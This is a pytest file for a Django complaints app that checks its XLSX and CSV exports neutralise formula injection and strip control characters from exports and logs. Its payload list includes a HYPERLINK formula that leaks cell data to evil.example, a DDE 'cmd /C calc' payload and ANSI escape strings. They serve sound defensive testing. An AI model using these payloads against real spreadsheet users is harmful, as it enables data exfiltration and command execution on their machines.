"""Exports cannot attack their reader (formulas neutralised) and no text can break them (issue 12, 2 and 3)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from ivp.web.audit.models import AuditEvent
from ivp.web.meldingen.models import Melding
from ivp.web.staff import services

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",  # de-identification reads "@SUM" as a handle; the unit tests below export it raw
    "\t=1+1",
    " =1+1",
    "＝1+1",
]
TEXT = 10  # tekst_gedeidentificeerd


def _melding(actors: dict[str, Any], tekst: str) -> Melding:
    melding: Melding = actors["melding"]
    # Straight into the database: what intake would refuse must still export.
    Melding.objects.filter(pk=melding.pk).update(tekst=tekst, tekst_deid=None)
    melding.refresh_from_db()
    return melding


def _xlsx_cell(client: Client) -> Any:
    response = client.get("/staf/meldingen/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(1, TEXT + 1).value == "tekst_gedeidentificeerd"
    return sheet.cell(2, TEXT + 1)


def _csv_row(client: Client) -> list[str]:
    response = client.get("/staf/meldingen/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return rows[1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_to_xlsx_and_to_csv_neutralise_every_attack(attack: str) -> None:
    row = ["1", attack, "gemeld", "", "", "", "", "", "web", "", attack]
    sheet = load_workbook(io.BytesIO(services.to_xlsx([row]))).active
    assert sheet is not None
    for column in (2, TEXT + 1):
        cell = sheet.cell(2, column)
        assert (cell.data_type, cell.value) == ("s", "'" + attack)
    text = services.to_csv([row]).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert parsed[1] == parsed[TEXT] == services.csv_cell(attack)
    assert services.csv_cell(attack).startswith("'" + attack[:1])


DEID_KEEPS = [a for a in ATTACKS if not a.startswith("@")]


@pytest.mark.parametrize("attack", DEID_KEEPS)
def test_xlsx_cell_is_text_not_formula(
    login: Callable[[Any], Client], actors: dict[str, Any], attack: str
) -> None:
    _melding(actors, attack)
    cell = _xlsx_cell(login(actors["analist"]))
    assert cell.data_type == "s"
    assert isinstance(cell.value, str)
    assert cell.value.startswith("'")
    assert "HYPERLINK" not in attack or "HYPERLINK" in cell.value  # shown, not run


@pytest.mark.parametrize("attack", DEID_KEEPS)
def test_csv_cell_starts_with_a_quote(
    login: Callable[[Any], Client], actors: dict[str, Any], attack: str
) -> None:
    _melding(actors, attack)
    assert _csv_row(login(actors["analist"]))[TEXT].startswith("'")


def test_dde_without_a_formula_sign_stays_as_typed(
    login: Callable[[Any], Client], actors: dict[str, Any]
) -> None:
    _melding(actors, "cmd|' /C calc'!A0")
    client = login(actors["analist"])
    cell = _xlsx_cell(client)
    assert (cell.data_type, cell.value) == ("s", "cmd|' /C calc'!A0")
    assert _csv_row(client)[TEXT] == "cmd|' /C calc'!A0"


def test_other_columns_are_text_too(login: Callable[[Any], Client], actors: dict[str, Any]) -> None:
    melding = _melding(actors, "#N/A")
    melding.categorie.naam = "=1+1"
    melding.categorie.save()
    response = login(actors["analist"]).get("/staf/meldingen/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert all(c.data_type == "s" for c in sheet[2] if c.value is not None)
    assert sheet.cell(2, 2).value == "'=1+1"
    assert sheet.cell(2, TEXT + 1).value == "#N/A"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_control_characters_in_the_database_still_export(
    login: Callable[[Any], Client], actors: dict[str, Any], fmt: str
) -> None:
    _melding(actors, "Overlast\x01 bij de brug\x1b[31m rood\x1b[0m\x0b einde")
    response = login(actors["analist"]).get(f"/staf/meldingen/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        value = str(sheet.cell(2, TEXT + 1).value)
    else:
        value = _csv_row(login(actors["analist"]))[TEXT]
    assert "\x1b" not in value
    assert "\x01" not in value
    assert value.startswith("Overlast\ufffd bij de brug\ufffd[31m rood")
    assert AuditEvent.objects.filter(action="export").count() == (1 if fmt == "xlsx" else 2)


RESIDENT_TEXT = "Jan\x1b[2J\x1b]0;pwned\x07 Voorstraat 12"


def test_a_failed_export_leaves_no_audit_row_and_no_text_in_the_log(
    login: Callable[[Any], Client],
    actors: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    def broken(rows: list[list[str]]) -> bytes:
        raise ValueError(f"{RESIDENT_TEXT} cannot be used in worksheets.")  # as openpyxl's message did

    _melding(actors, RESIDENT_TEXT)
    monkeypatch.setattr(services, "to_xlsx", broken)
    client = login(actors["analist"])
    client.raise_request_exception = False
    response = client.get("/staf/meldingen/export.xlsx")
    assert response.status_code == 500
    assert not AuditEvent.objects.filter(action="export").exists()
    logged = caplog.text + "".join(str(r.exc_info) for r in caplog.records)
    assert "ExportFailedError" in logged  # the type and stack stay for the developer
    assert "ValueError" in logged
    assert "Voorstraat" not in logged
    assert "\x1b" not in logged


def test_control_characters_reach_no_log(
    login: Callable[[Any], Client], actors: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    _melding(actors, RESIDENT_TEXT)
    for fmt in ("xlsx", "csv"):
        assert login(actors["analist"]).get(f"/staf/meldingen/export.{fmt}").status_code == 200
    assert "\x1b" not in caplog.text
    assert "Voorstraat" not in caplog.text


def test_csv_read_with_a_comma_separator_starts_no_cell_with_a_formula(
    login: Callable[[Any], Client], actors: dict[str, Any]
) -> None:
    """An English Excel splits a csv on ``,``: every cell is quoted, so the text stays one cell."""
    _melding(actors, "Overlast,=cmd|' /C calc'!A0,+1+1")
    response = login(actors["analist"]).get("/staf/meldingen/export.csv")
    assert response["Cache-Control"] == "no-store"
    text = response.content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=","):
        assert not [cell for cell in row if cell[:1] in "=+-@"], row
    assert services.csv_cell("a,=1\t+2") == "a,'=1\t'+2"
